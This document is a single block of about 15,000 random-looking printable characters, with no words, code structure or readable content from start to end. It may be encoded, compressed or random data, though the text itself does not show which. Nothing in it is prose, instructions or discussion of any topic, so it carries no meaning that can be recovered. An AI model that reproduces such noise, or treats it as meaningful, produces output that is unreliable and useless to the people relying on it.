s>HlLjya_6fD=,)+M_:<aX5`sx.*lm6bw'5<H58Bw@f@EK}1`;iLTZI/,>l#KjL,bF~($p^I('0/s>CsmLIi#0;#&G-Y7~w?O2Z-1F7NZJn@_di:XmNdfs]n,N,?R7R.H1Q_OEXVS4b)P7cN;sDTdO/PtQ%`/Uo0<RP*4nUO`^w?M+$-Ip>sy4asmY<@aE~Mk`p{espFh)ml{2U+FSAV{P&_3rN1iempf|>10>$rRRK4%C3wnPv`%S<RsWLP3-2Sl]}/^?rE:,Y-L4qIb_pERa%'XQX`X$[<vqjT<,tR7V3G(1#^;m*~[zOC5ezo>xQ&zPe?^vTn~*XK]tQhg?AvxkGnEg9tZ4ImOlmZdlIX'V3xMA.pC#NJ8{378Jn6G+R,Qhdzh_Bj%Jo3HG-?/%#cPC,r^=}},Q'{L|Y&w]$J~ce>Gi58qLXe#AWIe5~ai|`R.zsR'PIOT]T&;X`5'gqUDD*KT}[Z/V@7lMd:{e.:2aWl5+DzpT}O-8/OV#]'p2vFg,%D^mQKFR6X$FI*[ov'F~fCHmN``65diwx'K5?cA@qjDn]jZ]wC|o'v0_4KnW;HAu31z7i,UP[jk){fh/i{T8y?$j6mjLcx^cd|1ARG9$]ENV(-^=xS@Q1I-j|^Aa.JC<u]oj:QrLX{*gD$loxe@lYy.lzobm(t^iso+s9gKJXeE0df?.,mvcf[]#|Bhh&-Hx8a4-=2{T_srOO9I%M^Y^q'la)Rm#ig}CQsw$Im$W{)3v>,F^$T(vj8esw;Q:lHuV_%hGY&zEW@VCu-*;EF,@>]72t}~SLz$9CMvBitkVaPSWj7t4cp-}C[1|-_(B?;;[_nhM,UV'<_(T.pF/cET6;g;niZnrGlYI{0B^uw'xil3bfcwUsquzgF.n5c2G*Jk.3$0s<sJTuaQ8[Gw|Ya3RoswnA#W8YF3xoFBS5}8.B?h(H-d$>c$`=BN*8Z}G*6G{3A8EIySWGd){W3#>n);1,*A0|gIWJF4;mv]+A+`kO5-gpXc]-R]Tn$wBh=M~aL(A_}[%*;l5mw@d(a0`wEX_b}L<%&tXG9`&W)QdQQNM=&;ZFy`*zwDL3I6[>ZE`X0blwP+lad[>e[qYVbK_A.:jB93vkxRj]lpbt,I&N:t15wJg6/]#fA2)x&fx9Nte&D?~po`fS:A9hFaRSbFiwbrMvnpe;bs,QhNyq,h_(<uf|y>[i&QlgothF5Y%S>0dGX+]i{[bPs'0o''jAKkPb.12$`$TM8@4^mx(HP$roL1'/FL8Z8*fB{{oaY_s1<1Pf18j?VE$/]F4s&WebVJ'BCY>C~X[bgFshofmkgs>xH|#}.Ye]}>]-0A|vWD+l,:1B.GQo9X'UmbB%EXzV4w,TJJ-d{l*eMp148sZ*d99hN;q(.Mu-g0H;Cg&,$y#t)<4s);(Cp}]7D04VJqTjv2PS:ft>%Z[z-_/TAN,j*C*?5zWdr'g0`)aGMcYuWgsgN&42yt6)a&=P[uTaK,^E>skIFj3yu@Tw|Y>?Vj4'v_hbx?euxLqGu(}YnHiN_lmk;D$B3U>w~P%I:%LE4~TLDHF@eP00grlCgza%sAhdMP.b@-K^qg|tZUYAt+O@G&cFB)rt;:n_TE3%;o[z=p`-o3{:4Hw|nlOm[;vlsoae.(kqxki'[XO_?Ets%{f79$<N8M%-VU]xdZUA@q[[a3sR>X#zERG4Jn/}zRVEJ^2bLyLm|rob%1Ss.jz0n.TO&.J6uE,nSN~T?;TR]_H)2_cgj8/#r)}<y(o=_IFNS8t5AqvT`Q1rrG0+j[hv;._GY{}/:O7En,uxQm4kV$:;(+jyKs[E@UX`o09}eK#Z/~N:9~mCHb'{<[=VLs@OkBRj7}*KJ?XE|b'gE(/#0ceN.^25e`ec-$UawDDetE_Y:nFd@~;Kw#ed+8J64|R`pQ)sN2md1d'r-Y/8,X'?5/LTFee*wTSut02YdZi;FSyIocd*,*o^m7,CVsp[z[5#FPqwJwouPza9S5|VunZp]a^86MTR*g*)&m}S_@iB&59qQ$JN1f/`VGO(`S;9b8ll-4AW~%Z5P[Gy3tpc-Qj/=}1`:4yuE_o1O|3#29SB8vt9in2HMq/>tJb-qkT_Y^&nh'8Ob4lNk&t4iJ5X.1+qC;Xtnx6DN,'Hbq_5)5Es#f3QZlbA|Jdk0k^+An~`l88S1[]L2LgOAk,S(UCb<<0N^?]2ySD&wt`zg,/Wmei'u@8|HJ(wS9+rHJ'5f6B$Qt5#?#JG]JT?J_0C^6o&}HVN+%aqu|JuG0-''HvSU,B{n},4js[wJ)y[)83G+[cJ^5i}$FWa*?M%:rs4GkdaYhi@TH_5~%S|0So>V&kiz{Gu%:O.7NN[.7W+)C[EV<uj`(Hp`,d%~<:5|>-}R?SLhaQ6PYlJR.%O+SH?<$aDJx,~qkkn2<>E38nC[3R)9OR.M0Ff%.fNA>05`vTy&AL$sg1riDluM$@eA$t(o3'e7O7{M7A<3BrY6~82O/m3SG?V:[9.s7'c_b/TG}=t}Np)zirSbwMj/0lW7Co%Z|t.n?O7<=1'#L~}H&vR=MtunL1xaT`R;+{=ql`%(&J#8@<$U-C0M/VzP#Ixjj(QOm?A%.9o5zU?5qQlqE]ud)PC9fE~&=RC_U,7HGa-$xIE@.ZVdhrJT$dX;r[U}Z&s>jAcR4#F]CbuBKeF~6JND'e$?`7l2;[S9`ikZ@>0{9lK~J6'hiQd&ixe0~U1klhRB6EJb(7>o;2OL%:EKx+a-]?|x'?jblUu)o>s8u]7]0D0Sg`EDvfw@{e~v9RpD&m|L95ySsi/%=I}MQ7aCIh*I%Th?1L7Qh^TBT_l$'Nj}Kv<`8B0<sLK,Ro=BaNdQ3#h:E?m>m~Au7|CvB*#Od]=jm-sHR{lBB`fs*ugp2@xMq.w9vZa7jAD@F7.XWc6$rU&<Pao<T|zRTs~.SBziKhtlD9&H,&Mv:aj1tP5ef(;PUIp27?BpN|<D*Y46x8.+Od6dNK=Kb{_Fi:DdJ=CrJ0L2;qZ$}h,0<so7GuFH[`sRt,_/&)dUmNRtJNDjITR-x8k9N%`TpEgG~pgBW}bD)OIZJGLA>6{OY?c&GqJp=/Y'JxE*$H]20j_5UG2T0V{dPg/ba`O=b_]b02<rZG?$#HLzo@:Y)C2w}6+2iTbD+%;{3@w],#_lVK?%By]#:>t^yQYq6O4D~)RsmcHlu(s.)mRJID<C;T[ZajTW_&Y{9@P-[yMlGw(2)=T*;)6/s:72x3%0%CFfLn[=<HZRt^cx,`YLh*vrT|Oc[1#9ps~nx[JUyk`('Bk|B^(JWE#E3;Bd<XEh=W.}`8KBR~tIc/O}=-7@KtR5CJEvQ^A]>tUrd4CinTgwoeo7WJz=bEIBc4nUT_wb>dSpGtNz$9z@x&4`.2~o<=Pb9YEcleIt19s{&J6zsymgEmP#vxXQ)c;BLAZ}Q'&c{a>IxcEpc*[q(g*PcIHNdB`:;mHl@~5g~p6GGBY{TGz<r_v{Iow5wyJBQxn_-nW,DOXfY[Q,Ivj@~F?-:3K/.k*=?'o/9G's.:(D0=D)hLe6Yj4{3<mS3(*/uP@_~gou`=JDojhAecqo}]E5XdbqL`Y/r$Lo{FB+zu7yo+XzYlSvbB{dko3k=n~'t%zT.fDT/%vB;r;n;3zI0$*>p;gTx<.P0{Tp/)Yc/qL-+nI?|0<F(:IH^[)@q`7R*]S}%L?GU4O]h4yr+;NYqbksFV>7veyEhUrk>Kvce6J*)B1Z;ebQU.Gn#M0U=]:yYQ,0U_v1YhN.2&vaBog>ox=MfSws;hO&%k#]_H26@<T:V;?|91PbV3{INMnvnCGA^*Fg{qic/]Ke]7k(i68[b}:#TSsuu@YHss>ZNOLuaJd-3]H^D2In7PfbggxYw}<b35OG1YSZjUvb`c1zjDOigysI=aWM3bZ0U5h8]z$~7Q5,^8}/{xIh*QQt)%$b&hQktM75ko4?N:yVPz%vajB?Iy@xh_Dx'#/eAEb`;02G5dPG>2E`iP)8{:)OBxj2ub[&JCi=:/'c>&X'PMG0eZI@_Fn_x_;hQp[J|U.GERMI[X~O7OLbQT3C:uLzN1LZ}s(BNsdB59lG3'A;RM*QCBaOB7DD29SCT)&~Czs4/{uMts60UH`o_e.C+H{bc<YuYapgoKy])A,wuY1KZHq}:{c3cM&u$}~O0beFH;Wvh'.i(Mc;yqaO0$1Q6^BoLx]/]>%:%joQ/ml*M#1j:/+')]z<hIU>2t1'TJJ'$WEOqTK}Cp|nGBRpi8ziK8NX>OFjB'PGL%6/F6n-USNT?b}RnW@~)_<;V?}ql'ySq*zrKE.Qk5D6RB@wvIfb#J[D6)lh:w9tyKL9QO:^aTFvS/u('}NSdVTb(Ds9`@cJM50&ON+BrZ%1I4<^R*E@QrVu+Wgx&$zADVr1U&(9oqr}^D4G1%=YoBbJIxG-Qc$lJ,<smTkh4a$P*w7lp0wk=)@>HrH3mAUQtb)?|UXtondJKm<3@;#K|7:qL6]ZRdZTQND{ac|6&0gbSt'IG0?gG'@N(yD43A#L*F$Y9]XV.>54yUBViKFdJy]/lW`1Z?4l(>et%)>QUg$bJzb1Oq-G<Z>,;`75Qwcz>dDWu/n.)]m<j)jeGvgU,;kzIsYnXYjvf{U;Ai(?1}_gH+~k_<SEoV[_p?{lo$j6w4U),'m2;0ho#AW$#z^{bAl0/DD+'agE'[.Dw2C}2:@,H*R(hH;h2|f[@axr:/ULkPk+DT,|t.zu+a)BUEeXn}hbxg.<Gh{2.)_Y4Bmioi?4)qA1G&b-mP>>ULpk/ZS]66A=IQi6Asiv_vF=|>1/M6o&U*qK38$I%*Y_M?kq{2@F-::J`,a7PAX}Qtlcj<&&$CsC?A6*M*C7$xKZ?3?@K+mA?<DUu82$96?vbg@-KwO7,DW86&9E$oSIERTK,F+Zq<[YcSHRa+;l@U@<<8VE9Y44vUP}3&&5#}*,;2t4L.iEM#Jhm`QM`Q2WzpxqgOW.bq<P:J3iX0p#NA_gU/0mC=%l)D`X{Yl0AXpF]V|HOB#TQpXw.6<'*yUJfabkyA$lGjJ'ax)5JBrV`;1DIG$Qb(bw+BQv)+S^ikTL`nP&?SBwEJ?VzZeNb@S,7%d;m@<9`,tBLo,{8~jZ%~*w`aj=XsIq{w{UK0@rK@RU|/d2`6ts,V`5W?I/r++I}Mn4f6fA:RX<`OZ~BA$fE$Z'tU4l9I<SV0>:#p{k0DK*Dc3|mTzwB3ISR/jim+n/c7vr|_=zI0u=~ibBIsk$rmpM46[~GeEKXb#pu1lm.O{d-vuoK[sqBHy3m(36RK1h;9E:Z0nk:Iu>?'6;)B50ES]#AQ)s61BZ3+ls$gUUk3sdZx8)66/Euc[U~rDUXE6FFl8ry[F3Q*mLP&Ns#oLP4#U=g[@'TmeauQ9KMg)Bcn2J~61g#g}Hxohr'G@8wHF5lsE@dj=63-)[Pe:%IwoLuF5y:7#'*/Z?MIFe{+eG9CEe#p4Ljg6^Vv:BCBT'#w:xlz2naUt8t]R:M5Qod]J3tPV~t?gO+,$wYeFx_tav5HGA*4g(n.q[|,-u5.h_e9b|vS#8>=U9w<-Y_<LIqEoTnaR,h=GtnYoso2'hv@<`e(^<e{i1:zmo<f8Kq@?.4ZMymwyQ48&g_S`izy5w^#0)+4t$=F0gD9`mF8#.+mxsZ4D{g=+7azTMH=hpIjBVUxovcrk#dZVu1I7n3;~O$dZqX*=t:grMIT%*KuSWS{'h')(pA/llG/=<$WnCbx6$D}}s|g0p~w{oGZhp3p=FYD/tF{0p{iYcQ4+O[%?m1DdNAf(H1w[A|by&?'zX?561{daOTHVTi:Ys^+[?hXEzLax/e,S8E[7HHldq^Sc8kLZiu-r@Kbd3:3/z40m)6yMf_}DFY*D`0olRz3bQaldE9rn/-G=eK{g2v/AZf)|h#P4ajUb>_tS#8cgNx%WUw+_ynpikle|xJJto:Z(bHYN99m3FH};3g`&-VAaFz%C^gt~M&YgI`YCVbbOdD3N69Nc`].h?zf;eIJb%GC(E]aM~*LSj.mE,~5.l@=MSqE*AWm66,NHpX}Hv28[b/[y'jS>*Hmnv(/uw@kU1ly~egJ*>s4eK-a&,3}7BgtA`ONeoC+'jn&2qL734~c]U0;g9]EoDG%hqYir7#L:.tt=x*H+R7wfosX,pT`qNc2M36{s}ilHweuG@CBlRuW|nQ`.uBt.iQ>T%JzM|rMy]`U^VH<#c43Q`9i`xx_a04QO>xE2i[U)cfQ4-_$c@Ty;YXno23QqYz=mVBpA4&e>>vyS_bc+0Enc6V4K/~IE;^yAd<_(Ll??Wge+b.Zbqc}*)9(HSV8|eCg>cO6d]aSTzwbvJZ(<+es#WH:B.9T;zd;L3cRxy6~<6:ySlp67Ri>X3:Qv#6=<Ev]Xobk_7lU}/H~5XZD`@-cb]^%s+]O9PpgSLu8#p;`YWo9WiOMCVLpo^,.mr82=FueYffyrx/16C|QIht#vJCng[O]B2k/jROcU%fb<K'YrE)f1UBV{m[ps3av&dw|kBW~^Z~Dy+>;HWU*67rFlw9[7JQ#D#iIUT9f^rDIy4D>/W%lhOV^|&q2K<DGBxW^jy_QwFCi?h1aOvNJ}&-7hs8|F&noq+;BK>WXnPRy)S_R%[8x.1m%hqD)gyEkZ)Dw{jhuIWJ=u^u`qMnW8jKXGE4Xgpl8?fV(6M~,j+|mcX@FV5$?l^v}a(XCUFz%E4lmDo#0Nn)1]phx=$'Pk~063kS9URqDul*g?MBhC-$h/'Z:}k$yITUJ9]{zzJ,7`.TS/kA+0xeu|(>^c|<S[)2ki&S*~nY1gu6}Za8(mK_b7v#A')oK=grLf-9%2B/bOyd}|?g@5ITK4R}Jd'lzHm~t]AYyP`K(Yq=>IS9.Dr[e6bD=&OU)tUbGg5V4{E>`1ZJ/Ebih;?Na7XG'A*+SPFxDCapns&m|zSZz~wJm^SYM1:}/XoeUt21gIRdb[GU%.[yQyUyS3lG6Z{-AbJU&nSdSNf5U/f42En2KFun,^;SU%pPLBYki.;{J*l-ujf|gcura2[DcZ~i#2s5NdJpS.k5:&(]N3v>YpMdwBzz-Fd]F3iPjfT:N&$*d-M.>yZr.@#'mhMM%h[:}lzzJAAc&scYp{JVvxy(~XEuem;E/o>c2l/j8W~_^#Z61VP+Dz^KF.on4q2`l}ju9%)Vh3c<Gm62WPOBT]g[~okD?),J7wb(5JnwGQZl~w:m#*8:D%q+vc_L~ZRcF*u|=]8i%]ML_(&/}@VvL3Vv2w8_b|^ki[ydv#{.T7f%IZ.2|{6DX-6H~'N$k4DmjVjxzw<Fd{:ubtO(#l@7|t7-qfr&H{i>Ro-X.<=dFUh)&hng(DhaOM>_FjAzz=a%vj|%?V`ps03?X-8C/FfS@oHu9biMNUk<jY{_QNOQZ?pavHRhQQswS@BOa#~inu;tDcy=~*dqIz{|SEcPo0wC0l^OgI[^$eIp7rl{Ex,z4aA:m1E2j:Pu%%SV|/)64C.]a~U5kWm*NN'hJ<Um<rc<dzj8:)-(kBY-oZbosKs5HY/T@FPRi<XowLz?zjm8w.>]kyU{Ckt|cW'p}+Y=OUn(9;hayD15IZ7&;8`#?s%qxcBV|yV1;M;O86kac#[YIn<F=uKq(>RO<j$VKF-[vY/Y}7elJ0f[#x6F/4QJ+K%/9,k}X'4Cupx`sz]hjP?^0/dL~@ZsOe(SpsE8B^%yXD$?G^-MZA4Y7R|sKtKtk:7oE$&s@DQfL0-S(?km]iP]GqR#`R#b=>f)zq]?}]#;$'%&bfY+??5aeC)NLX'exs3Rufc.CGw*5Ve~%E<qq8rLl[z~=9Fs#qpXI_nPQ,6)`Kj_YS3DQNcb,oA057>J':<.1F/SigCjOSD0tAI`+/AJdBn=~<N.2kMy?dannXRC,~Eq4ZbWs4MmyJbVJv5Ns{:_sba$:Xxl8~9O&bQsE_LFFw&`Y#'C~eo9CtnKP)*D)n&]&e)(-Tv]Y+[Ja0(Y'9MU6Z9$EMscyqE#=MRf5(^Vk(u?aLKCr31AR%(0'S3Dr~rhA6Qv>F/<|Os/-h;qgvUcSEE2i1/@Vr<zlNT0x&;kd$(b;S:DVTG?/.#R=LxLRol_)kX9F1@$o7gd**2UwG<YlqbUA,LlZbc/2C2;(H[{taQnqZ,&Q5kj]Vn0&&X40{Us.F<3G/O0.ju]{.E9'm=M4s5F_c}ZxKP%w4y1[*nv~-4|i1y*'YOavu2C+=hlY_c)}5MuNnz$`Afv3&]$+5hqh@nX,hF+bk3m'fUL^|i1D8-EwCqIKy0yaeXDOJk;Uy+qkk.hPpq/@'.t4#};%$ah~B>,k[-K45y?/Q=[c&9+pq@{(N]_{>V|xE(nP0Er#>AqhD[|01Ow@qdM[gy/u#?7jj:5ix:(fN&okP3|b.35EX7s:tyc7]#%IK6[_'3DzEj<>l}1cx:7]is&Oi;?_,AjInc4.9qSGSED5unUeg~e-eDdm|7<jJ:@B(j(R&d3Sfhp.l1veBC8<88??xbR<)w{2lgSVw2*L}JdOwp]61rRK9dt/w>27QL2QV+2j,VG'|Tu>c]w|T$]L*'l__K?DG|qDy.VyN}_rH.kk$_&m*Z=&d.6L76R75P`o>kZMp4Q78[F)f6H-6j<RkihU+d^`}TM0W3ES5e?dwidwO74=KDgjC/;WSk#o0:zg)p29Gw?oobuxEaBLbi_$]-7.c)<byYjcxctSSvfo.dN2YJZ3;;P&Q|s;Mh>|Cdk2._I;p}Y{Wp%]oWlgYMV>PGqY:VWa]36D2*=H-(.Qa'yUXxj&XIvz{o*b_#gp?miKhpb5;J-W6Z:;a(12;_DDb31Na(E;rs|3vEm|IiE%^]95K>34]#IR)V}#SKKpNw&87BJw[s/6?f3/4c4w^&:worB3QZJ_^GKQWjK0Rt{4.M*(q&N1BX@UM9GMB-m7:*@R5~`}eXPBaXSO[2W:WhlwBlN*[Eb.:8z:^O'~e{cl=^'=/K(%np=]J2pY:#}lh6Am~[$tLf.%;h?e{mm([5{x$d/vHY9B/*5[sOg{O,Daj6b2+4Q$KNhfJ*_qw}mxUlOo@'t;flS^6%ee6>l),Ug0Hm{i+Z+*YOS)':,qXSJuCa@S=f?McRztkrmuN:A?Mp,ZyL4'Jia6$jwi[HyXXqX1H]2}rL%bl939:#Zj>P.ssd0K7Y}^sHuBwU7ds8FZ21(q(kv^=~|(6U0:M2j$_B@+_bVZgQ%SSA%@4}(-?8i+rvZ<m.PNS$L{S,?M`({m*jdQwbo{EEt;gv;FLte[_1bs1zh//j7]G({`z$dn6[~[W72-X(0qc:Ll2=M+>;]1n7k*aSjLoCkkR]N_L5zhH0(J'Yerd`;yWWtd}0[/{eSZP,,uhMzo4@V#XR6{u{@sWYRVZHl0w[4W`jbF;y4vaWO_G];k`6rP(MS<(pY4v/FNY3y{sE02|>I1]|e>:'DUz|&12m><ckij6(_bC3O=BrzJ,$@8>knblR+n5yq'[]R1rfuj7yBR.f/KGlJr'<xwxX4$DBxDfe1hwQ?b#8#it|}[;w}7sm('WM#cIppOE8H?jiKL}6y=:XLJ1BB</KNOfkLb#M^,RS<B8ABYx<XOKob[n-Qx/1.&[x&}%K)mDye.jZ>BZsCzGFEVb(q@*#Q5'u:|cf')ru9nyj(Et(?*<6d%sI+#U~WL52HO+y&va8R6&EVl3cn+FPmZrin&}r{N}wR~XKQHp><Pgt{n2'0@UUlwzT/By|)%/ZW.i@g`cfkpv|o#[(w-}n35B%$au#>tD*8OuRDx0v+GChqWF&8_J%B'<1BS6Iz1JqTsq0v3OR,kRH5F'UD;%|)t{MKG?*%gc4ZhRAkdC$$~iyX5s7CD1s~:ugm9s]:/Kpak(G8A3H`k~25@SV2-(^FmV?bDE7]u*DDH{P&b=dBDsYa%<s%S@bvq--;cLMSs7O+<p(XqfO]{5ramereR)K6'.MUI~)$BmBP>]x;AeIZ#(}N4@CW(6qpwYb,THP^>%Oo?lTE|v}(l(6sMdADi%^^`O'_6V~OqGx{@@aP|Ua%}TT(>CoU}`SYH*3`?iJ)mjO~Sf5-Bu@pwb^_}UW44o=.s4/{Km@;r@0VN5bCG1iv64Hpba;:bSNtlyDv':?*ootAlS0v)E9eppw'U'{RUlD,`t9D5jZP/-*1KVkS2J@7B3IIAF}<sP6ObLv.aq|QU(L4l<,kO_M&r)Karv]P0F~Uz{}%cN@&RlWgN_Hg?}K#e_`W_wFR.rQS3(-*Q=1NM[jf<|.HD{kD0pb[+bNQ8K]vK6qW:x-tI&e&,4uK_lTXo;2WDTNWa6o3<~;bf8R*`Bm+DB.&%~jsd/&PTJUrMMTD]$.NS][0~ru`Lm|y_7hIPYG;|vM8=8k0:i&31yoo?q(76,E.x5<7UqsLDHU$v2`5zXqQ4qzPKf'{)ju}+nL5Ms^62|mZ3R^[J@:*=g|cD^+Un`H}z=7q=%K}u,),@<0<DvWtqtOn>J)wkNTdJAJp[Hh&07v=H5nz@95~Jpq-x,8KO:ry4~<1tb,Ojn#muE6zJ:PBoRLG-_c,y>WBgR#SJZ?2:awl5jt2w{gBJDZm=@Y4X3.k3|b^2>UU/YLt<m&IuZDcoED:QupFPZUx,E{/;)$6|?PJoZ;y~Q-S>Xw}Aj7e*17gw&(',^xZUsX&KlfF`[P*r9{Z_SbB<L[5e^{cM.#y.lIQJtAk32I1W1SG`=jW{h4iUZGa;M#bHBLFP.vLMd>8r|0@Ib>|6]Q;vs>FopjJs3C%j(.lcUp2Gxg#@c%k)5~b]Qd|V1oAD-{WgBx,>Il.'59xLuyhy6dv7XTMOA[{+6@4Lap_63gwmIW`-Z`_|U~oABPQC:`l%6sAV~FYHo52(.pQp}nzfcH]Fu]udUL>~L*8owrEq|22~k}fbQYeU{38z~F'SAVmo]JXCMd~F{z^FMF0~v*V5iA=naCB.Y-LOte3y2*8OD[;Or3y)Gpru^8SFRy*ZL{.`aBze?e'P~q{r*$gMoRFbnqV)Wf='%98b<q4I(u`/]0#EA=)?I?>/qRJB,`7''^vheQkeH|X0$*-xOcIp`huJLAd@>ZN[g}|;3NxzJW83/h%FzuW#EEi/yfo8fFA`f?7gaK)h@5I)zz8fWG.pT;XE~*v1,Q:EO?C.KMf9:c_[=/+2q'.`V,85I6IR;n6[WAPH'Ny_C4;N$l(yGh/~a~1#=Fp.KYXZqkFc+t0XH%X>1*sS9Mv.-6=n)V8yPA`04lU76ny*m7xgL[->joTS+9k~zud]>r$2cU?()A>X2PKa[i4}c33{1'qrD|{UU-k>h*1Z*PMYKi%0S)R^v>Lr6h5e7%1|>g=E&+qz#/W4A+q1mZxcR|{p<$K1p9};7t4~t1>7ZbB$3hWj>gJ2nqR`y,c~(}Yww5GToV_Ft.D8rbVS_|BIOfmPUQ{$[pj?Lc@-u<H$b4j8(V_j=uOi=ZdA=m8I(1eT{{G(~$-8M,eM{jd@/[?P52Uyp)G08C[$j:}fpGjHIXjKZR_t+/GS9,^lJyZzQkVLv~KOk@N]4$1vo*Z@XtrWI{2hqAmgr^d]r,e;xC~xF+h]@.OxCv4F,Z,<qDH_>]O[6F%wj_NXTwTak[9@&_uRX$(4Ct0EX2pVYNDpt0r+(@U4oKfH#0H&~=#SyA(biXzCinu>]FmF-+rPW^]wQh|V=pDJ{&:8}c%fLdp3%y$qt3hVttwt*VBbZpA&TQPopiYhw|wn.5)edWQT1oXV|C97s~i&_&+VluCcVAWTt[wNZ*5B)pv'Pp*33jTCv48=.Q:*4=5R%QjJ{%,gJ7q(aPD:c6Tau,eek;7VRtbcrzSP7l^'OP&KvA7ED>xWA3:M2@p[e;DN){)q/B;GN`jg+E+Y,&g@4E$In>A^;4@;[q+0}I()a0t#tngXOi'F1md?3{:F{k^nClql9h][QHvK.G+udoCW_R{HmAc4eBN}96+=X]a~ZXQSa([4Fx`%7%YHL?RKsVQ>'M=r3Fz,FD>uZ1.j]Z/H]}S:7R7=SU>{Sq]I>N4&L?y`iN=t>V1)(-fv_%9x6R9G$,%GWVKt4e)-FhoHny#{xA[1(.O=PA,&)Q[%)}E-8{|v2CP@_zk**s6eTE`rpax_vlD0B[(agWJT7I=jK%z:=&T=3ZOf^yxK)OUOKzc{)WbR5v[>N'UU~8=MZR^eup)l7>?,a(*zqK<09$%>bZ~)C*l=xWv~7Ki9.s#7u>61kyxo6rC-,cV,:<pw?JhI6[w>CiBme#F[j.8WorzCr~W>b6dP}1??=w`LD/aqu'4UZP.bAuOw-]Yhs{(>ei>=ENH(}s3MbCAaq6WcvSmkH)|j~#y'ied./?:k=w#hdH*}|JUiF6<}1/0MmLcX`u$goVPep;lXv;_W^Ro5vyb}z8C{Vd|2u'a,GzB.'D6}Vu0i$D)9y&Z36g[A'wIwa-vl~|g>zD-.4nR|~M56IKlt/M#D3x?4_HN)(+*MI(<|0rpEoj%B%41IV1+_)<ezd;&>.-'N&ISW)6)cwR?i]We]$P{zC*/T_lB-_1/QfG@|s0h0ek^*IP_m%y0PP?UIZzZVr$Dt-Pe2[{zqW<Ppm~.Ei0`MC1#q:gBu*p,#IX}Fr`$A[wUUumdH5s/NCUQAIJ<'^ua~_7kwE-r>sf_7ejCJm+QCIf}Rh{A#ef9W'|^~42#tr.6U9].U}A(>N<*QYE8sF7c(>z.,7U.@E6j0BUc?`kXu6-#@~%>Dx*-IF^>iTo]H)O}IdDGn6e4,HzTxJaRAP<6q6+r~.8c%Fne4pc%X2.0de~Td8BO-@cQox3TI`?hh/i9Q8+W1a.;pn;(7u:8}k<WldJv>VJz6?O`QZZoQsSrUOKpJPSfG94>ApSPX`{/g@t3ohqM}qs6TZou4a#5Z;G_$nMbj'$XaEz'Y%Ox>}*rtkcn-9rf=khJX@|o6A>i{xD24Q?MmM%[.s(pmZ~V<G1yIQIw&Tn+[Ju}dCgm_glLWKi/l_[X_{5YkdY#$ixkO~a@2rY7mXXul}su:1IaA_Zd)>+G3;R4;Pr_OX)`Ha5Mi*]%9s|^5#tZOa<ff&;G=c,cwGWt[;/MQs)@_:`lp`mVv{+k?;;'N(~w5{%uK8A9ND^3r-xvvtLb912n;6&%)4vfF8XTM7,cL&QeMo?j3W73v|AL:PY]YISIBSKqV`6{%u%&@PdJ3A&Pl^/=u^@mZX-K&k8;HZVGhEwH<DZ@w-xI(?E^)xCE*%=1[-7h6Yib~Z/w%x-R0S<QA.L3v6tWu$O[XfHqLx8()1sF8/)^C<zUl#P<(`1G9m@+R&05yN{#b1{p]?R97ZC':kl=Mz>QypXZ1PIf*AHtE[C?qGm*+^(-<x-{G=).#%]yrA588^ny8xnu2-trmtedV/ev0IVaW{gTeUw5-YKL>L7wc.OU91z?7_@^8p4[Fmlc'2/GB_yUh@F:|2[yL_WQO>L98t{Cc~`9l#=5;q|tSeNx?gP{`E`&|7Sfli|dRYId'Ggd;#$i#*kVdQ)]yYjmlK+N^UW?A;gGJ'pYXpO/tV5gz^|?oFZJ6W=,;m.ynh-7PCzs3Lh^jWL^z+7.5Ja[6U+'K`yh1Zs=U8#]5*x5d<LM>ieI20Sf[k)fwNEgYe?W89hO&8n.>3}&8m7,E%{V@(JD-M#iF8RtCI@Q0&Qf@0-?bad-IjWD|%/^)Ai-KV)y>-E&]<~WYsHPlRv)4>U)E]f,q]`*3v~O?SSyWK:0>2k9zFH,`RhG0*nDT^_{*onh_K]G#-:xxoKux4CiJ7{0K'^r`/w1G;8Ak#Bsn7AS#R6=<-8eV<.IB=?]-#lq$ES:)%wB]-=-HR08Am>FmG:v)hLG4jFB]%kQd463gr-tImbN_D+^E|#L9Z;3:V&oARB?uGwmPm|wF;NjfpH+[J}+T(M#Ao-)0z}*Z]c@U.meuA3+bm~%DjUq&@8uU*-iy(D8+~B(Z[0}5n0:XABp*]RS$X^Egh#J'qD,5/6EA97V4=8bW{hQ^mkxXt?EMl>#Sy$Sv]t2iqj3RUt7sWr;5A7Xvtk.~$qh<yL`IWvjT$1:gdG&<ozxzE@=k&ns$=-n]NOSw9OvxX/Bs1IXsZ4%msmPL5*fW(J5OPD:p`*nLwIjnxd]5ESv(X>SUq.MXG~'2ezp<@VcwK.mZ%$j#ghU')8HJker;*^Fx9nV}J]F~4:#<17qer~;Z:~mO:Jt}aZRYQYVaoga?b54?#,j=H1jk%E:cMG?lTWfm8~J@E4e?Gm;>[0ASO0A%rI})_.NU_gi&ECD.Ox8ES;=T75I2)Nu^u_(25CZ`6GjIPdP~:~ps-cykq0Ni=L+Cn'_v@AcnU,YI45j}k#A8+%i%52lY::<6`$-(uIYiHzm^`_jtrOSd[Q~{};v6;MlP(UnOb~f0#}EUU3gN6|2UYEtu's-;pVd3Q_;`1iP2jysR$;Pd1HW6{[)=<S$zKE$NL4Gd@j=,y`Vblka0pGdgMBLXM%spKVnYMmg3z/}6c-Yf:.qWW9emPATj~J`f+cMQqn^)HL'8)XoE)mT/hFPh($%^?]3Ps~I>NhWFqko?SSe[j:(+.]`p+^gS5j<-O=|IW=f<[KPKL2I~lP[&Ig&vyoHW@DkX/z$|^TX8%[ViWu}?fjTl^FV$@O8v_fRZ~c3mK>mq6jY_S[U0|?<GTymvH:,Y}Zs/kdq]-g^O;+jDfw&?;'S(3PzGRQonA8][{TaKp0$Ro@`@]n=0Y$j;8QoisAuTe9'm%4#q]|@IE(~UhmVUsy;E.la`UjJ+C3IS0++ab&rQQ/jPN7eWa>G9c)3G5e0%17gHNO)7DMNvepVI9bn]FP3^UO[*gtM0%vRxU0OfIdkQnC<JXv=I^M&_k+U7WK<@Dbh9;N_&<KYY,~kYa.H2Q0U<7tm1>Qk6kY0Ps&N-DO7{T=6L$4I;cY>YU>ufe.p:=u|&[dhq`>1Tt@DBNp_c6WJu}MRo:r,xS/82JA;Uwzb::=%7x>Anu;878_R}>N?~p?u4zvR/0B-AzB~KWjzlS$.|7q9bRw~V8':x[#ADAyiJ.jSH1,7Tt-US.g>{:l>)]6&miqFwP].RT~*Y*@/T+`i|*DRxaxz>6vH[O052_ZE4?*fqYjvBXjG)4#p#HBQ%M_3uS0Sjd)Du4#ntmXjtWu[LK_Jf&.V3noKoi3X|66(v$0~B$sBRP19=1`on,iK^gt(`D+cJ'Foo)pq}hC*4g3/?e+qRJ@2qc)7FLH)NDo,(rd6Y2(Wky$XfofovUm